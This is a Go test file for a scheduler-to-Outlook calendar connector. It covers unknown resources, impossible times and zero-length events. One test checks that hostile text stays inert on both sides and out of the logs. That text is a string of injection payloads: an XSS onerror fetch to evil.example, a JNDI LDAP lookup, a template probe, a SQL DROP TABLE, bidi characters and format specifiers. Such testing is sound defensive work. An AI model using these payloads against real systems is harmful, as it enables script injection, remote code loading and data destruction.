package exchange_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/dime-scheduler/connectors/local/graphsim"
	"github.com/dime-scheduler/connectors/shared/dimescheduler"
	"github.com/dime-scheduler/connectors/shared/fault"
)

// message is what the board's webhook connector would send.
func (w *world) message(id, operation, body string) error {
	c, err := dimescheduler.DecodeChange([]byte(body), operation, 1_000, w.clock(), time.UTC)
	if err != nil {
		return err
	}
	return w.proc.router.Route(w.t.Context(), c)
}

const graphOf = `{"AppointmentGuid":"0f5b0b3e-6f0a-4a2b-9a7e-0123456789%02d","Subject":%q,"Body":%q,"StartDate":%q,"EndDate":%q,
	"Assignments":[%s]}`

func assigned(numbers ...string) string {
	var out []string
	for _, no := range numbers {
		out = append(out, fmt.Sprintf(`{"Resource":{"ResourceNo":%q}}`, no))
	}
	return strings.Join(out, ",")
}

// A message names a resource that nobody knows beside one that is known: people
// see what was skipped and why, and the other one's event is made.
func TestUnknownResourceIsSkippedVisibly(t *testing.T) {
	t.Parallel()
	w := newWorld(t, 1, options{})
	w.must(w.message("m1", "Create", fmt.Sprintf(graphOf, 1, "Repair", "", "2026-11-23T09:00:00Z", "2026-11-23T10:00:00Z", assigned("NOBODY", "R1"))))
	w.must(w.message("m2", "Create", fmt.Sprintf(graphOf, 2, "Inspection", "", "2026-11-23T11:00:00Z", "2026-11-23T12:00:00Z", assigned("R1"))))
	w.settle()
	w.shown("Outlook", "R1", w.inOutlook("R1"), []card{born("Repair", 1), born("Inspection", 3)})
	told := w.told("Skipped")
	if len(told) != 1 || told[0].Appointment != "0f5b0b3e-6f0a-4a2b-9a7e-012345678901" || told[0].Code == "" || !strings.Contains(told[0].Text, "NOBODY") {
		t.Errorf("recorded: %+v, want one that names the resource", told)
	}
}

// Times that make no appointment are refused as poison, with the reason, or are
// taken as unknown; whatever it is, the next message is not lost.
func TestImpossibleTimes(t *testing.T) {
	t.Parallel()
	for name, times := range map[string][2]string{
		"ends before it starts": {"2026-11-23T10:00:00Z", "2026-11-23T09:00:00Z"},
		"sentinel of .NET":      {"0001-01-01T00:00:00", "0001-01-01T00:00:00"},
		"sentinel of NAV":       {"1753-01-01T00:00:00Z", "1753-01-01T00:00:00Z"},
		"no date":               {"tomorrow", "later"},
		"end of time":           {"9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, 1, options{})
			err := w.message("bad", "Create", fmt.Sprintf(graphOf, 1, "Impossible", "", times[0], times[1], assigned("R1")))
			if err != nil && fault.Of(err).Kind != fault.Poison {
				t.Errorf("refused as %v, want poison", err)
			}
			w.must(w.message("good", "Create", fmt.Sprintf(graphOf, 2, "Inspection", "", "2026-11-23T11:00:00Z", "2026-11-23T12:00:00Z", assigned("R1"))))
			w.settle()
			w.timers()
			good := false
			for _, c := range w.inOutlook("R1") {
				good = good || c == born("Inspection", 3)
				if c.Subject == "Impossible" && c.End.Before(c.Start) {
					t.Errorf("Outlook shows %v", c)
				}
			}
			if !good {
				t.Errorf("Outlook shows %v: the good one is lost", w.inOutlook("R1"))
			}
			visible := err != nil || len(w.told("Failed")) > 0 || len(w.told("Skipped")) > 0 || len(w.inOutlook("R1")) == 2
			if !visible {
				t.Error("the bad one is nowhere to be seen: neither refused, nor recorded, nor in the calendar")
			}
		})
	}
}

// An event of Outlook without a usable time does not become an appointment, and
// does not stop the others.
func TestEventWithoutLength(t *testing.T) {
	t.Parallel()
	w := newWorld(t, 1, options{})
	_, err := w.graph.CreateEvent(email("R1"), graphsim.Event{Subject: "A moment", Start: at(2), End: at(2)})
	w.must(err)
	w.outlook("R1", "Dentist", 5)
	w.settle()
	w.timers()
	w.shows("R1", card{Subject: "A moment", Importance: "normal", Start: at(2), End: at(2)}, born("Dentist", 5))
	w.silent()
}

// Text that is hostile to whoever would take it for markup or a template arrives
// as the text that it is, on either side, and is in no log.
func TestHostileTextIsInert(t *testing.T) {
	t.Parallel()
	const hostile = `<script>alert(1)</script> <img src=x onerror="fetch('//evil.example')"> {{7*7}} ${jndi:ldap://evil} '; DROP TABLE links;-- ` + "\u202e\u200b" + ` %s%n`
	w := newWorld(t, 1, options{})
	a := w.plan("Repair", 1, "R1")
	w.settle()
	w.rename(a.GUID, hostile)
	w.settle()
	e := w.graph.Events(email("R1"))[0]
	if e.Subject != hostile {
		t.Errorf("subject in Outlook: %q", e.Subject)
	}
	w.must(w.message("m", "Update", fmt.Sprintf(graphOf, 7, "Inspection", hostile, "2026-11-23T11:00:00Z", "2026-11-23T12:00:00Z", assigned("R1"))))
	w.settle()
	e = w.event("R1", "Inspection")
	if e.Text() != hostile {
		t.Errorf("body in Outlook reads: %q", e.Text())
	}
	if e.BodyType == "html" && strings.Contains(e.Body, "<script>") {
		t.Errorf("the body is live markup: %q", e.Body)
	}
	own, err := w.graph.CreateEvent(email("R1"), graphsim.Event{Subject: "Own", Body: hostile, BodyType: "text", Start: at(6), End: at(7)})
	w.must(err)
	w.settle()
	for _, a := range w.board.List(at(6), at(7)) {
		if a.Body != hostile {
			t.Errorf("body on the board: %q", a.Body)
		}
	}
	w.retitle("R1", own.ID, hostile)
	w.settle()
	if got := w.board.List(at(6), at(7)); len(got) != 1 || got[0].Subject != hostile {
		t.Errorf("the board shows %+v", got)
	}
	if strings.Contains(w.logs.String(), "script") {
		t.Error("it is in the log")
	}
}
